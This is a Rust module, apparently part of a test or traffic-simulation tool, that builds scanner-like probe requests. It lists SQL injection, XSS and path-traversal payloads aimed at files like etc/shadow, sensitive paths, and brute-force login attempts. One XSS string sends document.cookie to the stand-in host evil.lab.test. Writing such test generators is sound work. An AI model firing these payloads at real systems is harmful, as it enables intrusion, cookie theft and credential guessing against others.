//! What probes ask for: the usual strings of the usual scanners, aimed at pages that don't mind.

use clap::ValueEnum;
use rand::Rng;

#[derive(Debug, Clone, Copy, ValueEnum)]
pub(super) enum Kind {
    Sqli,
    Xss,
    Traversal,
    Paths,
    Login,
}

pub(super) enum Request {
    Get(String),
    Post(String, String),
}

const SQLI: [&str; 8] = [
    "1' OR '1'='1",
    "1 UNION SELECT NULL,NULL,NULL--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "') OR ('x'='x",
    "1 ORDER BY 10--",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "1 UNION ALL SELECT table_name,column_name,NULL FROM information_schema.columns--",
];
const XSS: [&str; 6] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.cookie)>",
    "javascript:alert(1)//",
    "'-confirm(1)-'",
    "<body onload=fetch('//evil.lab.test/'+document.cookie)>",
];
const TRAVERSAL: [&str; 4] = ["../", "..%2f", "%2e%2e/", "....//"];
const FILES: [&str; 4] = ["etc/passwd", "etc/shadow", "proc/self/environ", "var/log/nginx/access.log"];
const PATHS: [&str; 16] = [
    "admin",
    "backup",
    "phpmyadmin",
    "wp-login.php",
    ".git/config",
    ".env",
    "config.php",
    "test",
    "old",
    "api/v1/users",
    "server-status",
    "console",
    "uploads",
    "dump.sql",
    "cgi-bin/test.cgi",
    "login",
];
const ENDINGS: [&str; 6] = ["", ".bak", ".php", ".zip", "~", "/"];
const USERS: [&str; 4] = ["admin", "root", "alice", "test"];

/// The request with this number.
pub(super) fn request(kind: Kind, number: u64, rng: &mut impl Rng) -> Request {
    match kind {
        Kind::Sqli => {
            let page = ["search/", "api/item", "index.html"].get(rng.random_range(0..3)).copied().unwrap_or("search/");
            Request::Get(format!("/{page}?id={}&n={number}", escape(pick(&SQLI, rng))))
        }
        Kind::Xss if number % 4 == 3 => {
            Request::Post("/api/comment".to_owned(), format!("text={}", escape(pick(&XSS, rng))))
        }
        Kind::Xss => Request::Get(format!("/search/?q={}", escape(pick(&XSS, rng)))),
        Kind::Traversal => {
            let up = pick(&TRAVERSAL, rng).repeat(rng.random_range(3..10));
            Request::Get(format!("/search/?file={up}{}", pick(&FILES, rng)))
        }
        Kind::Paths => Request::Get(format!("/{}", probed_path(rng))),
        Kind::Login => Request::Post(
            "/login".to_owned(),
            format!("user={}&password=guess{}", pick(&USERS, rng), rng.random_range(0..100_000)),
        ),
    }
}

/// A path that scanners look for, without its first slash.
pub(crate) fn probed_path(rng: &mut impl Rng) -> String {
    let directory = if rng.random_ratio(1, 3) { format!("{}/", pick(&PATHS, rng)) } else { String::new() };
    format!("{directory}{}{}", pick(&PATHS, rng), pick(&ENDINGS, rng))
}

fn pick<'a>(list: &[&'a str], rng: &mut impl Rng) -> &'a str {
    list.get(rng.random_range(0..list.len())).copied().unwrap_or_default()
}

fn escape(text: &str) -> String {
    let mut escaped = String::new();
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() {
            escaped.push(char::from(byte));
        } else {
            escaped.push_str(&format!("%{byte:02X}"));
        }
    }
    escaped
}
